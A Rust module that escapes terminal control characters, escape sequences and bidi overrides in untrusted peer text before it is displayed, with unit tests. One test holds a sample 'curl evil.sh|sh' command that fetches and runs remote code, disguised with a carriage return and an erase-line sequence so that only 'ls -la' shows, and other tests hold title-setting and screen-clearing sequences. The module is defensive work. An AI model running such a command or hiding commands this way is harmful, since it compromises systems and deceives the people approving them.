//! Text a stranger sent, made safe for a terminal: the one escaper every
//! peer's words go through before they reach stderr, the log or a reply
//! printed on stdout — names, messages, event names, versions and reasons
//! from a gateway, a link's service or client, a local MCP server's stderr,
//! the doctor's agent.
//!
//! A terminal obeys what it is sent: ESC starts sequences that set the
//! window title (OSC), clear the screen or move the cursor (CSI), C1
//! controls do the same in one character, a carriage return overwrites the
//! line, and bidi overrides reorder what the user reads. A peer's line
//! break would forge a log line of ours. So every such character is shown
//! as its Rust escape (`\u{1b}`, `\r`, `\u{202e}`): visible, inert, and
//! still telling what was sent. Nothing else is changed; a backslash a peer
//! sent stays a backslash (an inert one), so escaping twice changes nothing.
//!
//! Must never drop or reorder what was sent, and never let one of those
//! characters through.

use std::borrow::Cow;

/// `text` on one line: every control character (line breaks and tabs
/// included) and every bidi control escaped. For log lines and anything
/// shown inside a sentence of ours.
pub fn line(text: &str) -> Cow<'_, str> {
    escaped(text, |_| true)
}

/// `text` as a reply to read: line breaks and tabs kept, everything else
/// [`line`] escapes escaped. For an agent's reply streamed to the terminal.
pub fn text(text: &str) -> Cow<'_, str> {
    escaped(text, |c| c != '\n' && c != '\t')
}

/// `json` (a serialized JSON text) with every character a terminal could
/// act on written as a JSON `\uXXXX` escape: the same JSON value, inert
/// on a terminal. serde_json escapes C0 controls itself; C1 controls, DEL,
/// bidi controls and the line separators it leaves as they are.
pub fn json(json: &str) -> Cow<'_, str> {
    if !json.chars().any(acts_on_a_terminal) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if acts_on_a_terminal(c) {
            // Every such character is in the Basic Multilingual Plane.
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Whether a terminal could act on `c`: C0, DEL and C1 controls, the
/// bidirectional formatting characters (embeddings, overrides, isolates,
/// marks) and the Unicode line and paragraph separators.
fn acts_on_a_terminal(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
                | '\u{2028}'
                | '\u{2029}'
        )
}

fn escaped(text: &str, escape: impl Fn(char) -> bool) -> Cow<'_, str> {
    let hides = |c: char| acts_on_a_terminal(c) && escape(c);
    if !text.chars().any(hides) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if hides(c) {
            match c {
                '\n' => out.push_str("\\n"),
                '\r' => out.push_str("\\r"),
                '\t' => out.push_str("\\t"),
                _ => out.extend(c.escape_unicode()),
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_keeps_its_value_and_loses_what_a_terminal_acts_on() {
        let value = serde_json::json!({"p": "a\u{202e}b\u{9b}c\u{7f}d\u{2028}e\u{1b}f\n"});
        let text = serde_json::to_string(&value).unwrap();
        let shown = json(&text);
        assert!(!shown.chars().any(acts_on_a_terminal), "{shown}");
        assert!(
            shown.contains("\\u202e") && shown.contains("\\u009b"),
            "{shown}"
        );
        let back: serde_json::Value = serde_json::from_str(&shown).unwrap();
        assert_eq!(back, value);
    }

    #[test]
    fn escape_sequences_controls_and_bidi_are_shown_not_obeyed() {
        assert_eq!(
            line("a\u{1b}]0;title\u{7}b\u{1b}[2Jc\rd\u{9b}1me\u{202e}f\u{2067}g\u{7f}"),
            "a\\u{1b}]0;title\\u{7}b\\u{1b}[2Jc\\rd\\u{9b}1me\\u{202e}f\\u{2067}g\\u{7f}"
        );
        assert_eq!(
            line("one\ntwo\tthree\u{2028}four"),
            "one\\ntwo\\tthree\\u{2028}four"
        );
        assert_eq!(text("one\ntwo\tthree\r"), "one\ntwo\tthree\\r");
        // A command shown for approval cannot hide part of itself.
        assert_eq!(
            line("curl evil.sh|sh\r\u{1b}[2Kls -la"),
            "curl evil.sh|sh\\r\\u{1b}[2Kls -la"
        );
        assert_eq!(text("\u{1b}[31mred\u{200f}"), "\\u{1b}[31mred\\u{200f}");
    }

    #[test]
    fn ordinary_text_is_left_alone_and_escaping_twice_changes_nothing() {
        for plain in ["中文 ok", "emoji 🦀 and ü", "C:\\path\\n", ""] {
            assert!(matches!(line(plain), Cow::Borrowed(_)), "{plain}");
        }
        let once = line("x\u{1b}[2Jy\u{202e}").into_owned();
        assert_eq!(line(&once), once);
    }
}
